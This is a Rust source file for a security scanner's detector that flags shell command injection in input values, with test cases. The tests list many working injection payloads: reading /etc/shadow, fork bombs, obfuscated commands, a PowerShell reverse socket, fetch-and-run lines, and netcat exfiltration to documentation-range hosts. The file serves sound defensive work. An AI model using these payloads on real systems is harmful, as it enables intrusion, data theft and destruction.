//! Shell commands where a value was expected.
//!
//! **What it finds.** An operator of a shell (`;`, `|`, `&`, the end of a line, `` ` ``, `$(`) followed by a whole
//! command, where what stands before it is no command but a value: nothing, a name, a parameter, a closed quote. The
//! command may be put together from variables, pieces of the environment or the output of others. Also options with
//! which common programs run a command, as the beginning of a value.
//!
//! **Why it matters.** A tool that puts the value into a command line runs the attacker's command (CWE-78).
//!
//! **Example.** `photo.jpg; cat /etc/passwd`
//!
//! Command lines as such (`npm install && npm test`), scripts, words in backticks and rows of tables are left alone. To
//! allow commands in a field, such as the argument of a terminal tool, allow this class for that field.

use super::{
    expression::is_expression,
    lead::{Lead, lead, lead_in_json},
    markup::{follows_name, is_markup, sign_is_line_end},
    needles::NEEDLES,
    operator::{is_end, is_plain_word, may_begin_command, operator_at},
    option::is_option,
    written::{self, hands_out, is_program, is_put_together},
};
use crate::{
    detector::{Detector, Finds, Hit, Outcome},
    execution::{
        commands::{self, Strength},
        setting::{VALUE_BYTES_MAX, in_backticks, in_sentence, is_value},
        words::{self, Command},
    },
    text::View,
};
use palisade_model::Severity;
use std::ops::Range;

pub(crate) static SHELL: Detector = Detector {
    class: "guard.injection.shell",
    version: "1",
    severity: Severity::High,
    title: "Shell command in a value",
    remediation: "Call the program without a shell and pass the value as an argument of its own.",
    references: &["CWE-78", "CWE-77", "OWASP-A03"],
    finds: Finds::Places { needles: &NEEDLES, confirm },
};

fn confirm(view: &View<'_>, at: usize) -> Outcome {
    let bytes = view.bytes();
    if bytes.len() > VALUE_BYTES_MAX {
        return Outcome::Clean { until: bytes.len() };
    }
    if bytes[at] == b':' {
        return fork_bomb(view, at);
    }
    if matches!(bytes[at], b'-' | b'p' | b'P' | b'e' | b'E') {
        return option(view);
    }
    let operator = operator_at(view, at);
    // Nearly all that follows such a sign in other text is declined by its first bytes.
    let rest = &bytes[operator.end..];
    let plain = is_plain_word(rest);
    let program = plain && is_program(rest);
    if !may_begin_command(bytes.get(operator.end)) || plain && !program {
        return Outcome::Clean { until: at + 1 };
    }
    let line_end = bytes[at] == b'\n';
    if (line_end && bytes[at..operator.end].iter().any(|byte| b";|&`$(".contains(byte)))
        || (bytes[at] == b'\\' && operator.is_empty())
    {
        // The operator that follows has a needle of its own.
        return Outcome::Clean { until: at + 1 };
    }
    if !is_value(view) {
        return Outcome::Clean { until: bytes.len() };
    }
    let mut command = words::read(view.bytes(), operator.end);
    written::drop_ending(&mut command);
    let sign = view.slice(operator.clone());
    let put_together = program || is_expression(sign, rest) || is_put_together(sign, rest, &command);
    let hidden = put_together && lead(view, operator.start, is_substitution(view, &operator)) == Lead::Value;
    let strength = if hidden { Strength::Certain } else { commands::judge(&command) };
    if strength == Strength::None {
        return Outcome::Clean { until: operator.end };
    }
    let confidence = confidence(view, &operator, &command, strength);
    if confidence < 0.4 {
        return Outcome::Clean { until: operator.end };
    }
    let end = view.slice(0..view.bytes().len()).floor_char_boundary(command.end);
    let why = match strength {
        Strength::Certain => "A shell command that reaches for something sensitive, or hides itself, follows a value.",
        _ => "An operator of a shell and a whole command follow a value.",
    };
    let hit = Hit::text(operator.start..end, None, confidence, why).until(end.max(at + 1));
    Outcome::Found(if confidence < 0.6 { hit.rated(Severity::Low) } else { hit })
}

/// `:(){ :|:& };:`, which starts itself twice until nothing else runs.
fn fork_bomb(view: &View<'_>, at: usize) -> Outcome {
    let before = view.byte_run_before(at, 12, |byte| byte != b'\n');
    let defines = memchr::memmem::find(&view.bytes()[before.clone()], b"(){").is_some()
        || memchr::memmem::find(&view.bytes()[before.clone()], b"() {").is_some();
    if !defines {
        return Outcome::Clean { until: at + 1 };
    }
    let start = view.floor(before.start);
    let why = "A function that starts itself twice takes up the machine.";
    let span = start..at + 4;
    let value = is_value(view) && !in_sentence(view, &span) && !in_backticks(view, &span);
    let hit = Hit::text(span, None, if value { 0.9 } else { 0.5 }, why);
    Outcome::Found(if value { hit } else { hit.rated(Severity::Low) })
}

/// A value that begins as an option of a program does.
fn option(view: &View<'_>) -> Outcome {
    let end = view.bytes().len();
    if !is_option(view) {
        return Outcome::Clean { until: end };
    }
    let why = "An option that runs a command or writes a file stands where a name should.";
    Outcome::Found(Hit::text(0..end, None, 0.84, why))
}

/// A substitution that ends with its bracket; what follows may be the rest of a name, but not of a path or a sentence.
fn closes_itself(view: &View<'_>, command: &Command) -> bool {
    match &view.bytes()[command.end..] {
        [b')' | b'`', b' ', ..] => false,
        [b')' | b'`', after @ ..] => command.words.len() > 1 || !matches!(after.first(), Some(b'/' | b':')),
        _ => false,
    }
}

fn is_substitution(view: &View<'_>, operator: &Range<usize>) -> bool {
    view.slice(operator.clone()).contains(['`', '$'])
}

/// How sure it is that `command` was smuggled in.
fn confidence(view: &View<'_>, operator: &Range<usize>, command: &Command, strength: Strength) -> f64 {
    let substitution = is_substitution(view, operator);
    if is_markup(view, operator, command) {
        return 0.0;
    }
    if sign_is_line_end(view, operator) && !follows_name(view, operator, command, strength) {
        return 0.0;
    }
    let lead = match lead(view, operator.start, substitution) {
        Lead::Script if strength == Strength::Certain => {
            lead_in_json(view, operator.start, substitution).unwrap_or(Lead::Script)
        }
        lead => lead,
    };
    let ends = is_end(view, command.end) || substitution && closes_itself(view, command);
    match (lead, strength) {
        (Lead::Value, Strength::Certain) => 0.95,
        (Lead::Value, Strength::Strong) if ends => 0.88,
        (Lead::Value, Strength::Strong) if in_sentence(view, &(operator.start..command.end)) => 0.0,
        (Lead::Value, Strength::Strong) => 0.6,
        (Lead::Value, Strength::Weak) if ends && command.words.len() == 1 => 0.45,
        (Lead::Words, Strength::Certain) => 0.85,
        (Lead::Words, Strength::Strong) if ends && !substitution => {
            let deliberate = command.words.first().is_some_and(|name| commands::is_deliberate(name));
            let span = operator.start..command.end;
            if deliberate && !in_sentence(view, &span) && !in_backticks(view, &span) { 0.82 } else { 0.5 }
        }
        (Lead::Script, _) if hands_out(&view.bytes()[operator.end..], command) => 0.9,
        (Lead::Script, Strength::Certain) if command.disguised => 0.6,
        _ => 0.0,
    }
}

#[cfg(test)]
mod tests {
    use crate::testing::check;

    #[test]
    fn shell() {
        check(
            "guard.injection.shell",
            &[
                ("photo.jpg; cat /etc/passwd", 9..26),
                ("127.0.0.1 && whoami", 10..19),
                ("x|id", 1..4),
                ("/ping?host=1.1.1.1;sleep 5", 18..26),
                ("name'; rm -rf /tmp/x #", 5..21),
                ("`id`", 0..3),
                ("$(curl http://example.org/x)", 0..27),
                ("a\ncat /etc/shadow", 1..17),
                (";c'a't${IFS}/etc/hosts", 0..22),
                ("x;/???/c?t /tmp/x", 1..17),
                ("file & dir C:\\", 5..14),
                ("x|C:\\Windows\\System32\\cmd.exe /c whoami", 1..39),
                ("|w^h^o^a^m^i", 0..12),
                ("x;{cat,/etc/passwd}", 1..18),
                ("x;nslookup $(whoami).e.example", 1..19),
                ("a$(touch /tmp/x).png", 1..15),
                ("x;cat ${HOME:0:1}etc${HOME:0:1}group", 1..36),
                ("--upload-pack=/tmp/x", 0..20),
                ("--checkpoint=1 --checkpoint-action=exec=sh", 0..42),
                ("notes.txt -exec /bin/sh -c id", 0..29),
                ("x; [Diagnostics.Process]::Start('calc')", 1..38),
                ("x;&('ie'+'x')('id')", 1..12),
                ("a;$b=New-Object Net.Sockets.TCPClient('198.51.100.3',80)", 1..55),
                ("; Start-Process cmd.exe -ArgumentList '/c id' -WindowStyle Hidden", 0..65),
                ("$(iwr 198.51.100.7/a.ps1|iex)", 0..24),
                ("x; . <(curl http://198.51.100.7/s)", 1..33),
                ("; LD_PRELOAD=/tmp/x.so id", 0..25),
                ("a$(</etc/hosts)", 1..14),
                ("; iptables -F", 0..13),
                ("& schtasks /create /sc minute /tn u /tr C:\\u.exe", 0..48),
                ("{\"name\": \"a.jpg\\\"; nc 198.51.100.7 99 < /etc/hosts; \\\"\"}", 17..50),
                ("{\"args\": [\"-la; cat /etc/shadow\"]}", 14..31),
                (":(){ :|:& };:", 0..9),
            ],
            &[
                "npm install && npm test",
                "Run `ls` or `cat` to see the files; cat is shorter.",
                "| id | name | type |",
                "cat access.log | sort | uniq -c | head",
                "if (a & id) { b; }",
                "Terms; sort of; more or less",
                "#!/bin/sh\ncat /etc/os-release | grep ID\nls -l /tmp\n",
                "    && apt-get install -y curl \\\n    && rm -rf /var/lib/apt/lists/*",
                "https://example.org/?a=1&id=3&sort=name&type=x",
                "OS=$(uname -s)",
                "string | null",
                "C:\\Windows\\ntdll.dll+9c5|C:\\Windows\\lsasrv.dll+1c|C:\\Windows\\RPCRT4.dll+48",
                "Use $(pwd) to name the folder.",
                "            .find(|env| host.ends_with(env))",
                "find . -name '*.log' -exec rm {} +",
                "/\\b(id|ls|cat)\\b/i",
                "The option --exec=cmd runs it",
                "{\"scripts\": {\"test\": \"tsc && node run.js\"}}",
            ],
        );
    }
}
